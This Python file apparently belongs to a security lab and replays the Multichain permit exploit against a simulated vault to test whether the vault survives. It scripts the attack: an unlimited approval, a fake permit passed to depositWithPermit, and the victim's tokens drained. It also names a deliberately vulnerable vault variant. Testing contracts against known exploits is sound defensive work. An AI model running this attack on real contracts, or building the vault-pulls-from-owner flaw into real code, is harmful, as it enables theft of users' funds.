"""Multichain: a token without `permit` swallowed it, and approvals for ever did the rest."""

from __future__ import annotations

from bridge.abi import ZERO_ADDRESS
from clearspan.lab.scenarios.banking import FOREVER, another_vault, held, odd_token
from clearspan.lab.scenarios.base import Scenario, Stage, Twin, Verdict
from clearspan.lab.scenarios.moves import LOOT, Heist, attempt

NO_FEES = (0, 0, 0, ZERO_ADDRESS)


def attack(stage: Stage) -> Verdict:
    """Empty permits for a token whose fallback takes any call, while a victim has approved the vault for ever."""
    with stage.world() as world:
        heist = Heist(world)
        source, thief, victim = heist.source, heist.thief, world.base.users[0]
        token = odd_token(heist, "HostileToken", (victim.address,))
        vault = another_vault(stage, heist, token.address)
        source.transact(token.functions.approve(vault.address, FOREVER), victim)
        permit = (2**48, 27, b"\x01" * 32, b"\x02" * 32)
        call = vault.functions.depositWithPermit(token.address, LOOT, victim.address, 0, NO_FEES, permit)
        unapproved = attempt(source, call, thief)
        source.transact(token.functions.approve(vault.address, FOREVER), thief)
        approved = attempt(source, call, thief)
        lost = 10 * LOOT - held(source, token.address, victim.address)
        return Verdict(
            survived=lost == 0,
            detail=f"an empty permit: {unapproved}; with an approval of the thief's own: {approved}; "
            f"the victim lost {lost} base units",
        )


SCENARIO = Scenario(
    identifier="incident-47",
    title="A permit that a token without permits swallows",
    group="C7",
    source="Multichain, Jan 2022, $1.4M; again Jul 2025",
    attack=attack,
    twin=Twin(
        mutation="the vault takes tokens from the owner that the caller names",
        contracts=(("CollateralVault", "vault-pulls-from-owner"),),
    ),
)
